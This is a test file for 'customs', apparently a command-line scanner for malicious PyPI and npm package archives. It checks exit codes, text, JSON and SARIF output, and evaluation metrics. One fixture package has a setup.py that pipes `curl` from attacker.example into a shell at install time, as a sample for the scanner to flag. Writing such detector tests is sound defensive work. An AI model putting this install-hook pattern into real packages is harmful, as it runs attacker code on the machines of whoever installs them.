/**
 * The built CLI run as a user runs it: artifacts built here (defanged), exit codes, formats, eval's JSON.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';

const ROOT = join(import.meta.dirname, '..', '..');
const CLI = join(ROOT, 'dist', 'cli.js');
const dir = mkdtempSync(join(tmpdir(), 'customs-cli-'));

/** A minimal ustar archive (regular files only), gzipped. */
function tgz(files: Record<string, string>): Buffer {
  const blocks: Buffer[] = [];
  for (const [name, body] of Object.entries(files)) {
    const data = Buffer.from(body);
    const h = Buffer.alloc(512);
    h.write(name, 0, 100);
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(data.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\0', 257);
    h.write('00', 263);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(h, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(blocks));
}

const evil = tgz({
  'evil-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n',
  'evil-1.0/setup.py':
    "import subprocess\nfrom setuptools import setup\nsubprocess.Popen('curl -s https://attacker.example/x.sh | sh', shell=True)\nsetup(name='evil', version='1.0')\n",
});
const fine = tgz({
  'package/package.json': '{"name":"fine","version":"1.0.0","main":"index.js"}',
  'package/index.js': 'module.exports = (a, b) => a + b;\n',
});
writeFileSync(join(dir, 'evil-1.0.tar.gz'), evil);
writeFileSync(join(dir, 'fine-1.0.0.tgz'), fine);
writeFileSync(join(dir, 'broken.tar.gz'), evil.subarray(0, 40));

const run = (args: string[]) => spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8' });

describe('customs inspect', () => {
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('fails a malicious sdist with exit code 1 and says where and why', () => {
    const r = run(['inspect', join(dir, 'evil-1.0.tar.gz')]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/^FAIL pypi:evil@1\.0/m);
    expect(r.stdout).toMatch(/code\/command-execution — setup\.py:3 \(install/);
    expect(r.stdout).toMatch(/pipes a download into a shell/);
  });

  it('passes a clean npm tarball with exit code 0', () => {
    const r = run(['inspect', join(dir, 'fine-1.0.0.tgz')]);
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^PASS npm:fine@1\.0\.0/m);
  });

  it('fails closed on an archive it cannot read, naming the file and the problem', () => {
    const r = run(['inspect', '--format', 'json', join(dir, 'broken.tar.gz')]);
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as { packages: Array<{ decision: string; error?: string; findings: Array<{ ruleId: string }> }> };
    expect(report.packages[0]!.decision).toBe('fail');
    expect(report.packages[0]!.error).toMatch(/broken\.tar\.gz/);
    expect(report.packages[0]!.findings.map((f) => f.ruleId)).toContain('customs/uninspectable');
  });

  it('writes SARIF 2.1.0 with rules and located results', () => {
    const r = run(['inspect', '--format', 'sarif', join(dir, 'evil-1.0.tar.gz')]);
    const sarif = JSON.parse(r.stdout) as { version: string; runs: Array<{ tool: { driver: { rules: unknown[] } }; results: Array<{ ruleId: string; locations: unknown[] }> }> };
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0]!.tool.driver.rules.length).toBeGreaterThan(10);
    expect(sarif.runs[0]!.results.some((x) => x.ruleId === 'code/command-execution')).toBe(true);
  });

  it('exits 2 on usage errors', () => {
    expect(run(['inspect']).status).toBe(2);
    expect(run(['inspect', '--format', 'xml', join(dir, 'fine-1.0.0.tgz')]).status).toBe(2);
    expect(run(['inspect', join(dir, 'missing.tgz')]).status).toBe(2);
    expect(run(['frobnicate']).status).toBe(2);
  });
});

describe('customs eval', () => {
  it('prints exactly the documented JSON object for a labelled corpus', () => {
    const corpus = mkdtempSync(join(tmpdir(), 'customs-corpus-'));
    try {
      mkdirSync(join(corpus, 'pypi', 'malicious'), { recursive: true });
      mkdirSync(join(corpus, 'npm', 'benign'), { recursive: true });
      writeFileSync(join(corpus, 'pypi', 'malicious', 'evil-1.0.tar.gz'), evil);
      writeFileSync(join(corpus, 'npm', 'benign', 'fine-1.0.0.tgz'), fine);
      writeFileSync(join(corpus, 'pypi', 'malicious', 'manifest.jsonl'), '{"path":"evil-1.0.tar.gz","name":"evil","version":"1.0"}\n{"path":null,"included":false}\n');
      writeFileSync(join(corpus, 'npm', 'benign', 'manifest.jsonl'), '{"path":"fine-1.0.0.tgz","name":"fine","version":"1.0.0"}\n');
      const out = JSON.parse(execFileSync(process.execPath, [CLI, 'eval', corpus, '--json', '--jobs', '1']).toString()) as Record<string, unknown>;
      expect(Object.keys(out).sort()).toEqual(['artifactsPerSecond', 'falseAlarms', 'misses', 'npm', 'peakRssMiB', 'pypi', 'seconds'].sort());
      expect(out['pypi']).toEqual({
        malicious: { total: 1, fail: 1, warn: 0, pass: 0, error: 0 },
        benign: { total: 0, fail: 0, warn: 0, pass: 0, error: 0 },
      });
      expect((out['npm'] as { benign: unknown }).benign).toEqual({ total: 1, fail: 0, warn: 0, pass: 1, error: 0 });
      expect(out['misses']).toEqual([]);
      expect(out['falseAlarms']).toEqual([]);
      // The benchmark's floors: unpack and read; with --parse, also parse the Python files (PyPI only).
      const floor = JSON.parse(execFileSync(process.execPath, [CLI, 'eval', corpus, '--floor']).toString()) as Record<string, number>;
      expect(floor).toMatchObject({ artifacts: 2 });
      expect(floor['pythonMiB']).toBeGreaterThan(0);
      expect(floor['parsedNodes']).toBeUndefined();
      const parsed = JSON.parse(execFileSync(process.execPath, [CLI, 'eval', corpus, '--floor', '--parse']).toString()) as Record<string, number>;
      expect(parsed['parsedNodes']).toBeGreaterThan(10);
    } finally {
      rmSync(corpus, { recursive: true, force: true });
    }
  });
});
